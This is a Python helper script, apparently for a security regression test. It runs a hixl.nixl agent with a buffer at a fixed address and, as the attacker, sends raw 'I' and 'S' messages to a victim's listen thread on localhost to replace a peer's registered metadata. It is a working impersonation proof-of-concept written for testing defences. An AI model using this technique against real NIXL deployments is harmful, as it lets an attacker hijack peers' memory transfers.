"""A hixl.nixl agent whose registered buffer lies at a fixed address, for the NIXL listen-thread
attack of tests/test_security_low.py.

python _sec_nixl_peer.py NAME ADDR SIZE [VICTIM_PORT]

It maps SIZE zeroed bytes at ADDR (so that two such processes have "the same" region), registers
them with an agent named NAME and prints ``READY <metadata hex>``. With VICTIM_PORT it is the
attacker: it then sends the victim's listen thread, over a raw socket, an ``I`` (forget agent
NAME) and an ``S`` (here is agent NAME's metadata: this process's engine), and prints ``SENT``.
Then it answers ``dump`` with the SHA-256 of its buffer and ends on ``exit``.
"""

from __future__ import annotations

import ctypes
import hashlib
import socket
import struct
import sys

import numpy as np

from hixl.nixl import nixl_agent

PROT_RW = 0x1 | 0x2
MAP_PRIVATE_ANON_FIXED_NOREPLACE = 0x02 | 0x20 | 0x100000


def mapped_at(addr: int, size: int) -> np.ndarray:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    got = libc.mmap(addr, size, PROT_RW, MAP_PRIVATE_ANON_FIXED_NOREPLACE, -1, 0)
    if got != addr:
        raise SystemExit(f"mmap at {addr:#x} gave {got} (errno {ctypes.get_errno()})")
    return np.ctypeslib.as_array((ctypes.c_uint8 * size).from_address(addr))


def side_channel(port: int, kind: bytes, payload: bytes) -> None:
    """One raw request to a hixl.nixl listen thread; returns when the listener closed it."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(struct.pack("<4scI", b"HXNM", kind, len(payload)) + payload)
        s.settimeout(10)
        try:
            s.recv(1)
        except OSError:
            pass


def main() -> None:
    name, addr, size = sys.argv[1], int(sys.argv[2], 0), int(sys.argv[3])
    buf = mapped_at(addr, size)
    with nixl_agent(name) as agent:
        agent.register_memory(buf)
        md = agent.get_agent_metadata()
        print(f"READY {md.hex()}", flush=True)
        if len(sys.argv) > 4:
            port = int(sys.argv[4])
            side_channel(port, b"I", name.encode())
            side_channel(port, b"S", md)
            print("SENT", flush=True)
        for line in sys.stdin:
            if line.strip() == "dump":
                print(hashlib.sha256(buf.tobytes()).hexdigest(), flush=True)
            elif line.strip() == "exit":
                break


if __name__ == "__main__":
    main()
